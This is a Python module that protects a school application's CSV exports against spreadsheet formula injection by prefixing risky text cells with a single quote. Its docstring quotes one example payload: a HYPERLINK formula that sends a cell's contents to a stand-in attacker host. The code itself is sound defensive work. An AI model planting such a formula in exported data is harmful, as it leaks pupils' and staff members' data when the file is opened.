"""Every CSV Keyworker writes goes through here, so no cell can run as a spreadsheet formula.

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`,
`-` or `@` (and, in some versions, a tab or carriage return) as a formula, so a
pupil name or note such as `=HYPERLINK("http://evil.example/"&A1)` would run
when a SENCO opens the export. Following OWASP's CSV injection guidance, a
text cell that starts with one of those characters is written with a single
quote in front (`'=HYPERLINK(...)`): spreadsheets then show it as text, and the
csv module's RFC 4180 quoting takes care of commas and double quotes. Numbers,
dates and booleans Keyworker formats itself are not text from a user and are
written as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A text cell that a spreadsheet would run as a formula, made inert; a boolean as
    true/false (one convention in every CSV, not Python's True/False); anything else as is."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeDictWriter:
    """csv.DictWriter with every row's text cells neutralised (the header is ours)."""

    def __init__(self, out: TextIO, fieldnames: list[str], lineterminator: str) -> None:
        self._writer = csv.DictWriter(out, fieldnames=fieldnames, lineterminator=lineterminator)

    def writeheader(self) -> None:
        self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({name: neutralise(value) for name, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)
